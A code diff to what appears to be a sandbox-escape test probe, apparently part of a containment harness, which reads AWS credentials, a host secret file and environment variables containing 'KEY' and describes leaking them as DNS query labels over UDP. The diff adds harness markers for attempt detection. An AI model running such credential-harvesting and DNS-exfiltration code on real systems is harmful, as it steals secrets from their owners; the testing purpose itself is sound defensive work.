@@ -2,6 +2,8 @@
 # tries: leak secrets as DNS lookups: one query packet per secret whose QNAME's first label is the secret, sent to the UDP port (argv 5) as to a resolver
 # source: https://attack.mitre.org/techniques/T1071/004/
 # exfil: yes
+# stopped-when: canary-unread
+# attempted-when: marker
 #
 # Secrets: the values of HOME/.aws/credentials, the host /tmp secret file
 # and the environment's *KEY* variables. A label holds at most 63 bytes,
@@ -14,6 +16,7 @@ import sys
 
 if len(sys.argv) < 9:
     sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
+print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
 token, home, hosttmp, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[5])
 secrets = [v for k, v in os.environ.items() if "KEY" in k]
 for path in (os.path.join(home, ".aws", "credentials"), hosttmp):
